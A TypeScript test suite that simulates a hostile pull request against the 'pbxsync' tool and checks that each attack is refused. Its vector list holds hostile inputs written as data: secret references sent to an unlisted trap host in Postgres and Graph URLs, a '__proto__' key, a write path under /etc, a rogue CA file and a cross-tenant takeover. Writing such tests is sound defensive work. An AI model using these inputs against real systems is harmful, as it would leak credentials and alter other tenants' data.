/**
 * A tenant file from a pull request, as a hostile contributor writes it, run the way CI runs
 * it: in an environment full of secrets, under the ISP configuration. Every vector is tried
 * with every command; no planted secret may appear in any output or any file, no connection
 * may reach a host the ISP did not list (listeners on 127.0.0.2 count them), and no row of
 * another tenant may change.
 */
import Database from 'better-sqlite3';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { exampleTenant, pbxsync } from '../support/cli.js';
import { pbxsyncAsync } from '../support/cli-async.js';

const PLANTED: Record<string, string> = {
  PBXSYNC_MASTER_KEY: Buffer.from('planted-master-key-0123456789abcdef').toString('base64'),
  GITHUB_TOKEN: 'ghp_plantedGithubToken0123456789',
  AWS_SECRET_ACCESS_KEY: 'planted/aws+secret/ACCESSkey0123',
  DB_PASSWORD: 'planted-db-password-0123',
  ACME_GRAPH_SECRET: 'planted-graph-secret-0123',
  TEST_DB_PASSWORD: 'planted-allowed-db-password',
};

/** Connections that reached a host the ISP never allowed (127.0.0.2 is loopback, but not listed). */
let trap: Server;
let trapPort = 0;
let trapped = 0;

beforeAll(async () => {
  trap = createServer((socket) => {
    trapped++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.2', resolve));
  trapPort = (trap.address() as { port: number }).port;
});

afterAll(async () => {
  await new Promise((resolve) => trap.close(resolve));
});

type Edit = (doc: ReturnType<typeof parseDocument>) => void;
const azure =
  (extra: Record<string, unknown>): Edit =>
  (doc) =>
    doc.set(
      'source',
      doc.createNode({
        type: 'azure',
        tenant_id: 'acme.onmicrosoft.com',
        client_id: '0c8a5f3e-7d2b-4b1e-9f6a-51c3d2e4a7b9',
        client_secret: '${ACME_GRAPH_SECRET}',
        ...extra,
      }),
    );

const VECTORS: [string, Edit][] = [
  ['the master key in a plan value', (doc) => doc.setIn(['defaults', 'visual_plan'], '${PBXSYNC_MASTER_KEY}')],
  ['a secret in the heading', (doc) => doc.set('tenant', '${DB_PASSWORD}')],
  ['a secret as the domain', (doc) => doc.set('domain', '${GITHUB_TOKEN}')],
  ['a secret as a username', (doc) => doc.setIn(['users', 'grace.hopper@acme.com', 'username'], '${AWS_SECRET_ACCESS_KEY}')],
  ['a secret in a scope domain', (doc) => doc.setIn(['source', 'scope', 'domains'], doc.createNode(['${DB_PASSWORD}']))],
  ['a secret in business hours', (doc) => doc.setIn(['defaults', 'business_hours'], doc.createNode({ from: '${DB_PASSWORD}', to: '2025-12-31' }))],
  ['the master key as the client secret', azure({ client_secret: '${PBXSYNC_MASTER_KEY}' })],
  ['a literal default for the client secret', azure({ client_secret: '${UNSET_SECRET:-literal-secret-value}' })],
  ['a secret as tenant_id, client_id and group', azure({ tenant_id: '${GITHUB_TOKEN}', client_id: '${DB_PASSWORD}', groups: ['${AWS_SECRET_ACCESS_KEY}'] })],
  ['the client secret sent to an unlisted authority with a CA from the PR', azure({ authority_host: 'https://127.0.0.2:TRAP_PORT', ca_file: 'evil-ca.pem' })],
  ['the client secret sent to an unlisted Graph', azure({ graph_endpoint: 'https://127.0.0.2:TRAP_PORT' })],
  ['a database password sent to an unlisted server', (doc) => doc.setIn(['pbx', 'url'], 'postgres://ci:${TEST_DB_PASSWORD}@127.0.0.2:TRAP_PORT/db')],
  ['any variable as the state password', (doc) => doc.setIn(['state', 'url'], 'postgres://ci:${GITHUB_TOKEN}@127.0.0.2:TRAP_PORT/db')],
  ['a prototype key', (doc) => doc.set('__proto__', doc.createNode({ leavers: 'delete', credentials: { store_plaintext: true } }))],
  ['a spreadsheet written outside the repository', (doc) => doc.setIn(['spreadsheet', 'path'], '/etc/pbxsync-hostile.xlsx')],
];

/** Every command that reads a tenant file (run at once: each is refused before it writes anything). */
const COMMANDS = [
  ['validate'],
  ['plan'],
  ['plan', '--json', '--out', 'plan.json'],
  ['plan', '--markdown'],
  ['apply', '--auto-approve'],
  ['discover'],
  ['azure', 'consent-url'],
];

function filesUnder(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(path) : [path];
  });
}

function expectNoSecret(where: string, text: string): void {
  for (const [name, value] of Object.entries(PLANTED)) {
    expect(text.includes(value), `${name} appeared in ${where}`).toBe(false);
    expect(text.includes(Buffer.from(value).toString('base64')), `${name} (base64) appeared in ${where}`).toBe(false);
  }
}

describe('a hostile pull request', () => {
  it.each(VECTORS)('%s: refused, with no secret in any output or file, and no connection made', async (_name, edit) => {
    const { dir, env } = exampleTenant();
    writeFileSync(join(dir, 'evil-ca.pem'), '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n');
    expect(pbxsync(['pbx', 'init', 'sqlite:pbx.sqlite'], { cwd: dir, env }).status).toBe(0);
    const file = join(dir, 'tenant.yaml');
    const doc = parseDocument(readFileSync(file, 'utf8'));
    edit(doc);
    writeFileSync(file, doc.toString().replaceAll('TRAP_PORT', String(trapPort)));
    const ci = { ...env, ...PLANTED };
    delete ci.PBXSYNC_MASTER_KEY_FILE;
    const before = trapped;
    const words = COMMANDS.map((c) => (c[0] === 'azure' ? [c[0], c[1]!, 'tenant.yaml'] : [c[0]!, 'tenant.yaml', ...c.slice(1)]));
    const results = await Promise.all(words.map((args) => pbxsyncAsync(args, { cwd: dir, env: ci })));
    for (const [i, r] of results.entries()) {
      const where = `pbxsync ${words[i]!.join(' ')}`;
      expect(r.status, `${where}:\n${r.stderr}`).toBe(1);
      expect(r.stderr, where).not.toMatch(/\n\s+at /);
      expectNoSecret(`${where} (stdout)`, r.stdout);
      expectNoSecret(`${where} (stderr)`, r.stderr);
    }
    expect(trapped - before).toBe(0);
    for (const path of filesUnder(dir)) expectNoSecret(path, readFileSync(path, 'latin1'));
    const db = new Database(join(dir, 'pbx.sqlite'), { readonly: true });
    expect(db.prepare('SELECT count(*) AS n FROM subscriber').get()).toEqual({ n: 0 });
    db.close();
  });

  it("aimed at another tenant's domain (with adopt), is refused and changes no row of it", () => {
    const acme = exampleTenant();
    expect(pbxsync(['pbx', 'init', 'sqlite:pbx.sqlite'], { cwd: acme.dir, env: acme.env }).status).toBe(0);
    expect(pbxsync(['apply', 'tenant.yaml', '--auto-approve'], { cwd: acme.dir, env: acme.env }).status).toBe(0);
    const rows = () => {
      const db = new Database(join(acme.dir, 'pbx.sqlite'), { readonly: true });
      try {
        return ['subscriber', 'dbaliases', 'usr_preferences', 'domain', 'domain_attrs'].map((t) => db.prepare(`SELECT * FROM ${t} ORDER BY id`).all());
      } finally {
        db.close();
      }
    };
    const before = rows();
    const evil = parseDocument(readFileSync(join(acme.dir, 'tenant.yaml'), 'utf8'));
    evil.set('tenant', 'evil');
    evil.setIn(['users', 'alice.johnson@acme.com', 'adopt'], true);
    evil.setIn(['state', 'url'], 'file:evil.pbxsync-state.json');
    evil.setIn(['spreadsheet', 'path'], 'evil-credentials.xlsx');
    writeFileSync(join(acme.dir, 'evil.yaml'), evil.toString());
    for (const command of [
      ['plan', 'evil.yaml'],
      ['apply', 'evil.yaml', '--auto-approve'],
    ]) {
      const r = pbxsync(command, { cwd: acme.dir, env: acme.env });
      expect(r.status).toBe(1);
      expect(r.stderr).toMatch(/^error: domain acme\.com belongs to tenant 'acme' \(its did\), but this file is tenant 'evil'; nothing was changed$/m);
    }
    expect(rows()).toEqual(before);
  });
});
